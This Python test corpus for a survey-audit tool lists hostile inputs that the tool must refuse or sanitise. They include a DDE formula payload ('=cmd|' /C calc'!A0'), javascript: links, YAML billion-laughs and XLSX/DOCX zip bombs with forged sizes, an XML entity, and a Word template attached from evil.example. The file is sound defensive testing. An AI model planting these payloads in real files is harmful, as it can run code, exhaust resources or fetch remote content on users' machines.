"""The hostile-input corpus: each case plants something an attacker (or an unlucky user) could give
auditkit, names the token that must never be published, and says what must happen instead.

A case's ``refusal`` is words its error must contain (the run must stop with exit 1 and no traceback);
without one, the run may succeed but no published file may contain ``token``. ``pending`` marks a case
whose fix has not landed yet: the test expects it to fail, and fails as soon as it passes, so that the
mark is removed. ``benchmarks/hostile_corpus.py`` runs them all and counts the outcomes.
"""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from workspace import Workspace

RUN = ("run", "{parameters}", "--force")
VALIDATE = ("validate", "{parameters}")
FINDINGS = ("findings", "{parameters}", "--force")
#: The survey's data-entry workbook, written into the report's folder so that the runner looks at it.
TEMPLATE = (
    "template",
    "{root}/data_templates/toolkit_survey.yaml",
    "--out",
    "{root}/reports/llr-2017/template.xlsx",
    "--params",
    "{parameters}",
    "--force",
)


@dataclass(frozen=True)
class Case:
    """One hostile input and what auditkit must do with it."""

    id: str
    issue: int
    what: str
    plant: Callable[[Workspace], None]
    token: str | None = None
    refusal: str | None = None
    command: tuple[str, ...] = RUN
    pending: bool = False
    tags: tuple[str, ...] = field(default=())


def _quote(text: str) -> Callable[[Workspace], None]:
    return lambda ws: ws.quote(text)


def _parameters(old: str, new: str) -> Callable[[Workspace], None]:
    return lambda ws: ws.replace(ws.parameters, old, new)


def _append_parameters(text: str) -> Callable[[Workspace], None]:
    return lambda ws: ws.append(ws.parameters, text)


def _data(path_in_parameters: str) -> Callable[[Workspace], None]:
    return _parameters("../data_templates/examples/llr-2017-survey.csv", path_in_parameters)


def _alias_bomb(key: str) -> str:
    """Nine anchors each nine times the one before (9**9 strings once expanded), the last one used as ``key``."""
    lines = ['x_a: &x_a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for before, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"x_{name}: &x_{name} [{','.join(['*x_' + before] * 9)}]")
    return "\n".join(lines) + f"\n{key}: *x_i\n"


def _alias_bomb_in_parameters(ws: Workspace) -> None:
    text = ws.parameters.read_text(encoding="utf-8").replace("title: Neglect toolkit survey and deep dive audit\n", "")
    ws.parameters.write_text(_alias_bomb("title") + text, encoding="utf-8")


def _alias_bomb_in_codebook(ws: Workspace) -> None:
    text = ws.survey_codebook.read_text(encoding="utf-8")
    title = next(line for line in text.splitlines() if line.startswith("title:"))
    ws.survey_codebook.write_text(_alias_bomb("title") + text.replace(title + "\n", ""), encoding="utf-8")


def _xlsx_with(ws: Workspace, name: str, sheet_xml: bytes) -> None:
    """A workbook whose one sheet is ``sheet_xml``, written as the survey's data file."""
    from openpyxl import Workbook

    path = ws.examples / name
    Workbook().save(path)
    rebuilt = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
            target.writestr(item, data)
    rebuilt.replace(path)
    ws.replace(ws.parameters, "../data_templates/examples/llr-2017-survey.csv", f"../data_templates/examples/{name}")


_SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_SHEET_NS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _xlsx_bomb(ws: Workspace) -> None:
    # 300 MB of whitespace between two elements: a few hundred KB once compressed.
    padding = b" " * (300 << 20)
    _xlsx_with(ws, "bomb.xlsx", _SHEET_HEAD + _SHEET_NS + b"<sheetData>" + padding + b"</sheetData></worksheet>")


def _xlsx_doctype(ws: Workspace) -> None:
    entity = b'<!DOCTYPE worksheet [<!ENTITY zqx "ZQXENTITY">]>'
    sheet = (
        _SHEET_HEAD
        + entity
        + _SHEET_NS
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&zqx;</t></is></c></row></sheetData></worksheet>'
    )
    _xlsx_with(ws, "doctype.xlsx", sheet)


def _xlsx_bomb_declared_small(ws: Workspace) -> None:
    """The bomb, its archive declaring the sheet 100 bytes long (a reader that believes it is fooled)."""
    import struct

    _xlsx_bomb(ws)
    path = ws.examples / "bomb.xlsx"
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        header = archive.getinfo("xl/worksheets/sheet1.xml").header_offset
    struct.pack_into("<I", raw, header + 22, 100)  # the local header's size, then the central directory's
    entry = next(
        at
        for at in range(len(raw) - 46, 0, -1)
        if raw[at : at + 4] == b"PK\x01\x02" and raw[at + 42 : at + 46] == struct.pack("<I", header)
    )
    struct.pack_into("<I", raw, entry + 24, 100)
    path.write_bytes(bytes(raw))


def _survey_as_xlsx_with_formulas(ws: Workspace) -> None:
    """The survey saved by a program that writes formulas without calculating them (openpyxl)."""
    import csv

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Data"
    for row in csv.reader(ws.survey.read_text(encoding="utf-8").splitlines()):
        sheet.append(row)
    sheet["C2"] = '=IF(1,"Leicestershire","")'
    book.save(ws.examples / "survey.xlsx")
    ws.replace(
        ws.parameters, "../data_templates/examples/llr-2017-survey.csv", "../data_templates/examples/survey.xlsx"
    )


def _draft(export: str, out: str = "{root}/reports/llr-2017/draft.yaml") -> tuple[str, ...]:
    """``auditkit draft-codebook`` on a file of the examples, its draft written into the report's folder, where the
    runner looks for the token (and for live formulas)."""
    return ("draft-codebook", f"{{root}}/data_templates/examples/{export}", "--out", out)


def _export_edit(name: str, old: str, new: str, count: int = -1) -> Callable[[Workspace], None]:
    """Replace ``old`` with ``new`` in an example export (every time, or the first ``count`` times)."""

    def plant(ws: Workspace) -> None:
        path = ws.examples / name
        text = path.read_text(encoding="utf-8-sig")
        if old not in text:
            raise AssertionError(f"{old!r} is not in {name}")
        path.write_text(text.replace(old, new, count), encoding="utf-8")

    return plant


def _huge_export(ws: Workspace) -> None:
    """A 30 MB CSV export: the plain example's responses, over and over."""
    lines = (ws.examples / "llr-2017-survey-plain.csv").read_text(encoding="utf-8-sig").splitlines()
    body = ("\n".join(lines[1:]) + "\n").encode("utf-8")
    with (ws.examples / "huge.csv").open("wb") as handle:
        handle.write((lines[0] + "\n").encode("utf-8"))
        for _ in range((30 << 20) // len(body) + 1):
            handle.write(body)


def _google_round(ws: Workspace) -> None:
    """The round's survey read from the Google Forms export with no format: names planted as formulas in the name
    column (never read), and a formula as a consented comment."""
    _export_edit("llr-2017-survey-googleforms.csv", "Alex Example", "=ZQXNAME()")(ws)
    _export_edit(
        "llr-2017-survey-googleforms.csv",
        "I used it in supervision to test whether we were drifting on a family we had known for years. We were.",
        "=cmd|' /C calc'!A0",
    )(ws)
    _data("../data_templates/examples/llr-2017-survey-googleforms.csv")(ws)


def _symlink_loop(ws: Workspace) -> None:
    loop = ws.examples / "loop.csv"
    os.symlink(loop, loop)
    ws.replace(ws.parameters, "../data_templates/examples/llr-2017-survey.csv", "../data_templates/examples/loop.csv")


def _fifo(ws: Workspace) -> None:
    os.mkfifo(ws.examples / "pipe.csv")
    ws.replace(ws.parameters, "../data_templates/examples/llr-2017-survey.csv", "../data_templates/examples/pipe.csv")


def _codebook_fifo(ws: Workspace) -> None:
    os.mkfifo(ws.root / "data_templates" / "pipe.yaml")
    ws.replace(ws.parameters, "codebook: toolkit_survey", "codebook: ../data_templates/pipe.yaml")


def _edited_findings(ws: Workspace) -> None:
    path = ws.report / "findings.json"
    path.write_text(path.read_text(encoding="utf-8").replace('"records": 61', '"records": 62', 1), encoding="utf-8")


def _survey_row(ws: Workspace, old: str, new: str) -> None:
    ws.replace(ws.survey, old, new)


def _round_outside_any_workbook(ws: Workspace) -> None:
    """The example round copied to a folder beside the workspace, in no workbook, its data named by full paths."""
    folder = ws.root.parent / f"{ws.root.name}-elsewhere"
    folder.mkdir()
    text = ws.parameters.read_text(encoding="utf-8").replace("../data_templates/", f"{ws.root}/data_templates/")
    (folder / "round.yaml").write_text(text, encoding="utf-8")


def _same_round_twice(ws: Workspace) -> None:
    (ws.root / "parameters" / "llr-2017-copy.yaml").write_text(ws.parameters.read_text(encoding="utf-8"), "utf-8")


def _docx_template(change: Callable[[Path], None]) -> Callable[[Workspace], None]:
    """A Word template beside the parameters (auditkit's own, then ``change`` applied to it) named by the round."""

    def plant(ws: Workspace) -> None:
        from auditkit.briefing.docx_template import DEFAULT_TEMPLATE

        path = ws.parameters.parent / "partnership.docx"
        path.write_bytes(DEFAULT_TEMPLATE.read_bytes())
        change(path)
        ws.replace(ws.parameters, "briefing:\n", "briefing:\n  docx_template: partnership.docx\n")

    return plant


def _attached_from_a_server(path: Path) -> None:
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE

    document = docx.Document(str(path))
    settings = document.part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)
    attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    settings.relate_to("https://evil.example/ZQXREMOTE.dotm", attached, is_external=True)
    document.save(str(path))


def _padded_with_zeros(path: Path) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/padding.bin", b"\0" * (50 << 20))  # 50 MB that zip to some 50 KB


def _without_quote_style(path: Path) -> None:
    import docx

    document = docx.Document(str(path))
    style = document.styles["Quote"].element
    style.getparent().remove(style)
    document.save(str(path))


def _edited_docx(ws: Workspace) -> None:
    import docx

    path = ws.report / "briefing.docx"
    document = docx.Document(str(path))
    document.paragraphs[0].text = "An edited title"
    document.save(str(path))


CASES: tuple[Case, ...] = (
    # ------------------------------------------------------------------ issue 14: quotes
    Case(
        "quote-case-ref",
        14,
        "a consented comment names a case reference",
        _quote("We discussed DD17-L01 at length in supervision and agreed the plan was working well."),
        token="DD17-L01",
    ),
    Case(
        "quote-case-ref-varied",
        14,
        "a case reference in other letter case, spaced",
        _quote("We discussed dd17 l01 at length in supervision and agreed the plan was working well."),
        token="dd17 l01",
    ),
    Case(
        "quote-response-id",
        14,
        "a consented comment names a response id",
        _quote("As I said in response R1000, the toolkit made the next steps obvious to the family."),
        token="R1000",
    ),
    Case(
        "quote-name-age",
        14,
        "a child's first name with an age",
        _quote("Using the toolkit with Tyler (age 4) and his mum made the home conditions clear to everyone."),
        token="Tyler",
    ),
    Case(
        "quote-address",
        14,
        "a street address",
        _quote("The visit to 12 Acacia Avenue showed how useful the scores are for explaining concerns."),
        token="Acacia Avenue",
    ),
    Case(
        "quote-obfuscated-email",
        14,
        "an email address written with (at) and (dot)",
        _quote("Anyone wanting the forms can ask me at jane(at)example(dot)com and I will send them over."),
        token="jane(at)example",
    ),
    Case(
        "quote-postcode",
        14,
        "a postcode",
        _quote("Families around LE1 5AB told us the toolkit conversation felt fair and clear to them."),
        token="LE1 5AB",
    ),
    Case(
        "quote-redact-name",
        14,
        "a name from the round's redact list",
        lambda ws: (
            ws.append(ws.parameters, "\nredact: [Kayden Smith]\n"),
            ws.quote("Working with Kayden Smith and the family, the toolkit made the next steps clear."),
        ),
        token="Kayden",
    ),
    Case(
        "redact-too-short",
        14,
        "a redact entry of one letter would blank every 'a'",
        _append_parameters("\nredact: [a]\n"),
        refusal="redact",
        command=VALIDATE,
    ),
    Case(
        "redact-common-word",
        14,
        "a redact entry that is a common word",
        _append_parameters("\nredact: [the]\n"),
        refusal="redact",
        command=VALIDATE,
    ),
    Case(
        "quotes-from-identifying-item",
        14,
        "a codebook quotes an identifying item",
        lambda ws: ws.replace(ws.survey_codebook, "  text: comment", "  text: response_id"),
        token="R1014",
        refusal="identifying",
        command=VALIDATE,
    ),
    Case(
        "quotes-from-internal-item",
        14,
        "a codebook quotes the auditors' internal notes",
        lambda ws: ws.replace(ws.cases_codebook, "items:", "quotes:\n  text: notes\n  consent: toolkit_used\n\nitems:"),
        token="Toolkit scores shared at core group",
        refusal="internal",
        command=VALIDATE,
    ),
    Case(
        "quote-too-long",
        14,
        "a consented comment of over 1,000 characters",
        _quote("The toolkit helped. " * 40 + "ZQXLONGQUOTE " + "It really did. " * 30),
        token="ZQXLONGQUOTE",
    ),
    Case(
        "quote-name-age-repeated",
        14,
        "a child's first name with an age, then the name alone",
        _quote("Tyler (aged 4) was cold at home; Tyler's nan found the scores easy to follow, and so did his mum."),
        token="Tyler's nan",
    ),
    Case(
        "quote-obfuscated-email-words",
        14,
        "an email address spelt out in words",
        _quote("Anyone wanting the forms can ask zqxjane at example dot com and I will send them over."),
        token="zqxjane",
    ),
    Case(
        "quote-internal-note",
        14,
        "a consented comment repeats an auditor's internal note",
        _quote("As we heard at the audit, toolkit scores shared at core group: that is what made the difference."),
        token="scores shared at core group",
    ),
    Case(
        "redact-two-letters",
        14,
        "a redact entry of two letters would blank every 'Jo' and 'jo'",
        _append_parameters("\nredact: [Kayden Smith, Jo]\n"),
        refusal="'Jo', which has only two letters",
        command=VALIDATE,
    ),
    # ------------------------------------------------------------------ issue 14: nothing injectable
    Case(
        "link-javascript",
        14,
        "a javascript: link in further information",
        _parameters('url: "https://example.org/llr/audits"', 'url: "javascript:alert(1)"'),
        token="javascript:",
        refusal="link",
        command=VALIDATE,
    ),
    Case(
        "link-data",
        14,
        "a data: link in further information",
        _parameters('url: "https://example.org/llr/audits"', 'url: "data:text/html,<b>ZQXDATA</b>"'),
        token="ZQXDATA",
        refusal="link",
        command=VALIDATE,
    ),
    Case(
        "bidi-override-in-title",
        14,
        "a right-to-left override in the title",
        _parameters("title: Neglect toolkit survey and deep dive audit", "title: Neglect toolkit \u202esurvey"),
        token="\u202e",
    ),
    Case(
        "zero-width-in-partnership",
        14,
        "a zero-width space in the partnership's name",
        _parameters("partnership: Leicester,", "partnership: Leic\u200bester,"),
        token="\u200b",
    ),
    Case(
        "symbol-is-a-digit",
        14,
        "a disclosure symbol that is a number",
        _parameters("  min_count: 0", '  min_count: 5\n  symbol: "5"'),
        refusal="symbol",
        command=VALIDATE,
    ),
    Case(
        "formula-label-in-findings-csv",
        14,
        "a DDE formula as an item's label, reaching findings.csv",
        lambda ws: ws.replace(
            ws.survey_codebook, "label: Attended the toolkit launch", "label: \"=cmd|' /C calc'!A0\""
        ),
        # The label as a live CSV cell: right after the separator, no quote before it (the runner's
        # find_formulas also judges every CSV cell).
        token=",=cmd|",
        command=FINDINGS,
    ),
    Case(
        "formula-labels-in-template",
        14,
        "HYPERLINK and DDE formulas as labels, reaching the data-entry workbook's Codebook and Lists sheets",
        lambda ws: (
            ws.replace(
                ws.survey_codebook,
                "label: Attended the toolkit launch",
                'label: \'=HYPERLINK("https://example.org/ZQXTEMPLATE","Open")\'',
            ),
            ws.replace(
                ws.survey_codebook, "{code: police, label: Police}", "{code: police, label: \"=cmd|' /C calc'!A0\"}"
            ),
        ),
        # A workbook's text is zipped, so the token is a marker only: the runner's find_formulas judges its cells.
        token="ZQXTEMPLATE",
        command=TEMPLATE,
    ),
    # ------------------------------------------------------------------ issue 15: nothing hangs
    Case(
        "yaml-alias-bomb-parameters",
        15,
        "a billion laughs in a parameters file",
        _alias_bomb_in_parameters,
        refusal="alias",
        command=VALIDATE,
    ),
    Case(
        "yaml-alias-bomb-codebook",
        15,
        "a billion laughs in a codebook",
        _alias_bomb_in_codebook,
        refusal="alias",
        command=VALIDATE,
    ),
    Case(
        "yaml-over-1mb",
        15,
        "a parameters file over 1 MB",
        _append_parameters("\n# " + "x" * (1 << 20) + "\n"),
        refusal="1 MB",
        command=VALIDATE,
    ),
    Case(
        "yaml-duplicate-key",
        15,
        "min_count given twice turns disclosure off",
        _parameters("  min_count: 0", "  min_count: 5\n  min_count: 0"),
        refusal="min_count",
        command=VALIDATE,
    ),
    Case(
        "yaml-duplicate-key-codebook",
        15,
        "a codebook key given twice",
        lambda ws: ws.replace(ws.survey_codebook, "  text: comment", "  text: comment\n  text: agency"),
        refusal="text",
        command=VALIDATE,
    ),
    Case(
        "format-spec-in-recommendation",
        15,
        "a recommendation asks for a billion-character field",
        _parameters("      Every partner agency should", "      {percent:>999999999} Every partner agency should"),
        refusal="format",
        command=VALIDATE,
    ),
    Case(
        "cell-over-excel-limit",
        15,
        "a comment longer than Excel allows in a cell",
        _quote("x" * 40_000),
        refusal="32,767",
    ),
    Case("xlsx-expansion-bomb", 15, "an XLSX that expands a hundredfold", _xlsx_bomb, refusal="expand"),
    Case(
        "xlsx-bomb-declared-small",
        15,
        "an XLSX that expands a hundredfold while its archive declares it small",
        _xlsx_bomb_declared_small,
        refusal="expand",
    ),
    Case(
        "cell-over-csv-module-limit",
        15,
        "a comment longer than Python's csv module reads",
        lambda ws: _survey_row(ws, "made the next steps obvious to all of us.", "x" * 200_000),
        refusal="characters; a cell may hold at most 32,767",
    ),
    Case(
        "xlsx-formulas-not-calculated",
        15,
        "an XLSX written with a formula and no calculated value",
        _survey_as_xlsx_with_formulas,
        refusal="saved without calculated values",
        command=VALIDATE,
    ),
    Case(
        "csv-cut-short",
        15,
        "a survey file cut off in the middle of its last row",
        lambda ws: ws.survey.write_bytes(ws.survey.read_bytes().rstrip(b"\r\n").rsplit(b",", 6)[0]),
        refusal="cells; the header has",
        command=VALIDATE,
    ),
    Case(
        "xlsx-doctype",
        15,
        "an XLSX with a document type declaration",
        _xlsx_doctype,
        token="ZQXENTITY",
        refusal="document type declaration",
    ),
    # ------------------------------------------------------------------ issue 15: sentences, not tracebacks
    Case(
        "round-id-300",
        15,
        "a 300-character round id",
        _parameters("round: llr-2017", "round: " + "r" * 300),
        refusal="round",
    ),
    Case(
        "round-id-characters",
        15,
        "a round id with spaces and punctuation",
        _parameters("round: llr-2017", "round: llr 2017!"),
        refusal="letters",
        command=VALIDATE,
    ),
    Case(
        "data-symlink-loop",
        15,
        "a data file that is a symbolic link to itself",
        _symlink_loop,
        refusal="link",
        command=VALIDATE,
    ),
    Case(
        "data-nul-in-path",
        15,
        "a NUL byte in a data path",
        _data('"../data_templates/examples/a\\0b.csv"'),
        refusal="data",
        command=VALIDATE,
    ),
    Case(
        "data-is-a-folder",
        15,
        "a folder given as data",
        _data("../data_templates/examples"),
        refusal="folder",
        command=VALIDATE,
    ),
    Case(
        "data-is-a-fifo",
        15,
        "a named pipe given as data",
        _fifo,
        refusal="not a regular file",
        command=VALIDATE,
    ),
    Case(
        "data-is-dev-zero",
        15,
        "/dev/zero given as data",
        _data("/dev/zero"),
        refusal="not a regular file",
        command=VALIDATE,
    ),
    Case(
        "codebook-is-a-fifo",
        15,
        "a named pipe given as a codebook",
        _codebook_fifo,
        refusal="not a regular file",
        command=VALIDATE,
    ),
    Case(
        "baseline-is-dev-zero",
        15,
        "/dev/zero given as the baseline",
        _append_parameters("\nbaseline: /dev/zero\n"),
        refusal="not a regular file",
        command=VALIDATE,
    ),
    Case(
        "yaml-alias-inside-itself",
        15,
        "an alias inside the list it repeats",
        _parameters("areas: [Leicester, Leicestershire, Rutland]", "areas: &areas [Leicester, *areas]"),
        refusal="alias",
        command=VALIDATE,
    ),
    Case(
        "format-spec-in-statement",
        15,
        "a codebook statement asks for a billion-character field",
        lambda ws: ws.replace(ws.survey_codebook, '"{numerator} of the', '"{numerator:>999999999} of the'),
        refusal="format",
        command=VALIDATE,
    ),
    Case(
        "csv-row-too-long",
        15,
        "a survey row with more cells than the header",
        lambda ws: _survey_row(
            ws,
            "R1007,health,Leicestershire,yes,yes,no,,agree,yes,agree,,",
            "R1007,health,Leicestershire,yes,yes,no,,agree,yes,agree,,,extra",
        ),
        refusal="cells",
        command=VALIDATE,
    ),
    Case(
        "csv-row-too-short",
        15,
        "a survey row with fewer cells than the header",
        lambda ws: _survey_row(
            ws,
            "R1007,health,Leicestershire,yes,yes,no,,agree,yes,agree,,",
            "R1007,health,Leicestershire,yes,yes,no,,agree",
        ),
        refusal="cells",
        command=VALIDATE,
    ),
    Case(
        "excel-serial-date-in-csv",
        15,
        "an Excel date serial number in a CSV date column",
        lambda ws: ws.replace(ws.cases, "DD17-L01,Leicester,2017-04-03", "DD17-L01,Leicester,42829"),
        refusal="42829",
        command=VALIDATE,
    ),
    Case(
        "out-under-proc",
        15,
        "--out under /proc",
        lambda ws: None,
        refusal="/proc/auditkit",
        command=("run", "{parameters}", "--out", "/proc/auditkit"),
    ),
    Case(
        "out-is-a-file",
        15,
        "run --out names a file",
        lambda ws: (ws.root / "a-file").write_text("x"),
        refusal="a-file",
        command=("run", "{parameters}", "--out", "{root}/a-file"),
    ),
    Case(
        "findings-out-is-a-file",
        15,
        "findings --out names a file",
        lambda ws: (ws.root / "a-file").write_text("x"),
        refusal="a-file",
        command=("findings", "{parameters}", "--out", "{root}/a-file"),
    ),
    # Two runs of one round at once: the second is refused while the first holds the report's lock, and the
    # earlier report stays as it was. (A run killed between the two renames of its final move, and a disk that
    # fills up, cannot be planted as one command: tests/run/test_staging.py and test_pipeline.py kill real
    # processes mid-move and fake a full disk.)
    Case(
        "two-runs-at-once",
        15,
        "a second run of the same round while the first is writing its report",
        lambda ws: ws.hold_lock(),
        refusal="Another auditkit run",
    ),
    # ------------------------------------------------------------------ issue 15: verify checks the outputs
    Case(
        "verify-edited-findings",
        15,
        "a published findings.json edited after the run",
        _edited_findings,
        refusal="findings.json",
        command=("verify", "{root}/reports/llr-2017"),
    ),
    Case(
        "verify-deleted-pdf",
        15,
        "a published briefing.pdf deleted after the run",
        lambda ws: (ws.report / "briefing.pdf").unlink(),
        refusal="briefing.pdf",
        command=("verify", "{root}/reports/llr-2017"),
    ),
    # ------------------------------------------------------------------ issue 16: a workbook of one's own
    Case(
        "codebook-name-unknown",
        16,
        "a codebook named by a name no workbook or auditkit has",
        _parameters("codebook: toolkit_survey", "codebook: toolkit_surevy"),
        refusal="Did you mean 'toolkit_survey'",
        command=VALIDATE,
    ),
    Case(
        "codebook-name-dot-dot",
        16,
        "'..' given as a codebook's name",
        _parameters("codebook: toolkit_survey", "codebook: .."),
        refusal="known: cp_plans_neglect",
        command=VALIDATE,
    ),
    Case(
        "codebook-name-nul",
        16,
        "a NUL byte in a codebook's name",
        _parameters("codebook: toolkit_survey", 'codebook: "toolkit_survey\\0"'),
        refusal="known: cp_plans_neglect",
        command=VALIDATE,
    ),
    Case(
        "run-outside-any-workbook",
        16,
        "a round in no workbook run without --out, which once wrote into auditkit's own folder",
        _round_outside_any_workbook,
        refusal="choose the folder to write to with --out",
        command=("run", "{root}-elsewhere/round.yaml"),
    ),
    Case(
        "init-into-a-workbook",
        16,
        "auditkit init over a folder that already holds a workbook",
        lambda ws: None,
        refusal="it is not empty",
        command=("init", "{root}"),
    ),
    Case(
        "batch-same-round-id",
        16,
        "two rounds with one id in one batch, which would write one report",
        _same_round_twice,
        refusal="both have the round id 'llr-2017'",
        command=("run", "{parameters}", "{root}/parameters/llr-2017-copy.yaml", "--out", "{root}/reports/batch"),
    ),
    # ------------------------------------------------------------------ issue 18: the power the parameters set
    Case(
        "power-change-in-points",
        18,
        "the change to size the next round for written as 20 (points) rather than 0.2",
        _append_parameters("\npower: {change: 20}\n"),
        refusal="key 'power → change': 20 is not a change a round can be sized for",
    ),
    Case(
        "power-change-not-a-number",
        18,
        "the change to size the next round for given as .nan",
        _append_parameters("\npower: {change: .nan}\n"),
        refusal="key 'power → change': nan is not a change a round can be sized for",
    ),
    # ------------------------------------------------------------------ issue 19: the Word briefing
    # Every case above that plants a token also reads briefing.docx (its XML and its text): the quotes, bidi and
    # zero-width cases check the Word briefing as they check the HTML and PDF.
    Case(
        "markdown-javascript-link",
        19,
        "a javascript: link written in Markdown in the briefing's summary",
        _parameters(
            "summary: >-\n    This briefing", "summary: >-\n    [Read more](javascript:alert(1)) This briefing"
        ),
        token="javascript:",
    ),
    Case(
        "docx-template-not-a-docx",
        19,
        "a Word template that is a text file named .docx",
        _docx_template(lambda path: path.write_text("ZQXNOTWORD", encoding="utf-8")),
        token="ZQXNOTWORD",
        refusal="is not a Word document (.docx)",
    ),
    Case(
        "docx-template-zip-bomb",
        19,
        "a Word template that expands a thousandfold",
        _docx_template(_padded_with_zeros),
        refusal="expands to more than 100 times its size",
    ),
    Case(
        "docx-template-attached-from-a-server",
        19,
        "a Word template attached from a server, which a reader's Word would fetch",
        _docx_template(_attached_from_a_server),
        token="ZQXREMOTE",
        refusal="refers to something outside itself",
    ),
    Case(
        "docx-template-without-a-style",
        19,
        "a Word template without the Quote style the briefing uses",
        _docx_template(_without_quote_style),
        refusal="has no style 'Quote'",
    ),
    Case(
        "formats-unknown",
        19,
        "a parameters file naming a briefing format auditkit does not write",
        _append_parameters("\nformats: [html, odt]\n"),
        refusal="'odt' is not a briefing format; allowed: html, pdf, docx",
        command=VALIDATE,
    ),
    Case(
        "verify-edited-docx",
        19,
        "a published briefing.docx edited after the run",
        _edited_docx,
        refusal="briefing.docx",
        command=("verify", "{root}/reports/llr-2017"),
    ),
    # ------------------------------------------------------------------ issue 17: exports and draft codebooks
    Case(
        "draft-free-text-answer",
        17,
        "a draft codebook from a Google Forms export whose consented free-text answer holds a token",
        _export_edit(
            "llr-2017-survey-googleforms.csv",
            "Went through the home conditions section",
            "ZQXDRAFT went through the home conditions section",
        ),
        token="ZQXDRAFT",
        command=_draft("llr-2017-survey-googleforms.csv"),
    ),
    Case(
        "draft-name-repeated",
        17,
        "a draft codebook from a Sheet export whose name question holds one name eleven times",
        _export_edit("llr-2017-survey-googlesheet.csv", "Alex Example", "Kayden Zqxname"),
        token="Zqxname",
        command=_draft("llr-2017-survey-googlesheet.csv"),
    ),
    Case(
        "draft-email-as-choice",
        17,
        "a draft codebook from a plain export whose choice answers are an email address, fifteen times",
        _export_edit("llr-2017-survey-plain.csv", ",Health,", ",zqx.worker@example.org,"),
        token="zqx.worker",
        command=_draft("llr-2017-survey-plain.csv"),
    ),
    Case(
        "draft-formula-answers",
        17,
        "a draft codebook from a plain export whose choice answers hold a formula three times",
        _export_edit("llr-2017-survey-plain.csv", ",Police,", ",=ZQXFORMULA(1),"),
        token="ZQXFORMULA",
        command=_draft("llr-2017-survey-plain.csv"),
    ),
    Case(
        "draft-no-header",
        17,
        "a draft codebook from an export whose header row was lost: its first response would become questions",
        lambda ws: (ws.examples / "headless.csv").write_text(
            "\n".join(ws.survey.read_text(encoding="utf-8").splitlines()[1:]) + "\n", encoding="utf-8"
        ),
        token="R1000",
        refusal="does not look like a header",
        command=_draft("headless.csv"),
    ),
    Case(
        "draft-huge-export",
        17,
        "a draft codebook from a 30 MB export",
        _huge_export,
        refusal="up to 20 MB",
        command=_draft("huge.csv"),
    ),
    Case(
        "draft-one-column",
        17,
        "a draft codebook from a file of one column",
        lambda ws: (ws.examples / "one.csv").write_text("Notes\nZQXONE\nmore\n", encoding="utf-8"),
        token="ZQXONE",
        refusal="one column",
        command=_draft("one.csv"),
    ),
    Case(
        "draft-not-tabular",
        17,
        "a draft codebook from a picture saved with a .csv name",
        lambda ws: (ws.examples / "picture.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
        refusal="binary data",
        command=_draft("picture.csv"),
    ),
    Case(
        "draft-not-csv-or-xlsx",
        17,
        "a draft codebook from a JSON file",
        lambda ws: (ws.examples / "responses.json").write_text('[{"ZQXJSON": 1}]', encoding="utf-8"),
        token="ZQXJSON",
        refusal="neither CSV",
        command=_draft("responses.json"),
    ),
    Case(
        "draft-out-exists",
        17,
        "a draft codebook over a file that exists, without --force",
        lambda ws: (ws.report / "draft.yaml").write_text("ZQXKEEP: my own codebook\n", encoding="utf-8"),
        refusal="already exists",
        command=_draft("llr-2017-survey-plain.csv"),
    ),
    Case(
        "google-export-names-and-formulas",
        17,
        "a round read from a Google Forms export with no format: names as formulas, a formula as a consented comment",
        _google_round,
        token="ZQXNAME",
    ),
    # ------------------------------------------------------------------ issue 20: the analyst's workbench
    Case(
        "lab-outside-any-workbook",
        20,
        "auditkit lab on a folder in no workbook, where JupyterLab would show no round and no notebook",
        _round_outside_any_workbook,
        refusal="it is in no auditkit workbook",
        command=("lab", "{root}-elsewhere", "--no-browser"),
    ),
    Case(
        "lab-notebooks-is-a-file",
        20,
        "auditkit lab on a workbook whose notebooks/ is a file, where the notebooks would be copied",
        lambda ws: (ws.root / "notebooks").write_text("not a folder", encoding="utf-8"),
        refusal="is a file, not a folder of notebooks",
        command=("lab", "{root}", "--no-browser"),
    ),
    # ------------------------------------------------------------------ issue 18: breakdowns and the funnel's target
    Case(
        "breakdown-by-identifier",
        18,
        "a breakdown by the survey's response number, which would publish a row per respondent",
        _parameters("\ninstruments:", "\nbreakdowns: [response_id]\ninstruments:"),
        refusal="breakdowns names 'response_id', which is not a categorical item (type: choice)",
        command=VALIDATE,
    ),
    Case(
        "breakdown-unknown-item",
        18,
        "a breakdown by an item no instrument has",
        _parameters("\ninstruments:", "\nbreakdowns: [agencies]\ninstruments:"),
        refusal="breakdowns names 'agencies', which is not a categorical item",
        command=VALIDATE,
    ),
    Case(
        "funnel-target-typo",
        18,
        "a funnel target that is not one of the two allowed",
        _parameters("\ninstruments:", "\nfunnel: {target: pooled}\ninstruments:"),
        refusal="'pooled' is not a funnel target; allowed: pooled_areas, stated_total",
        command=VALIDATE,
    ),
)
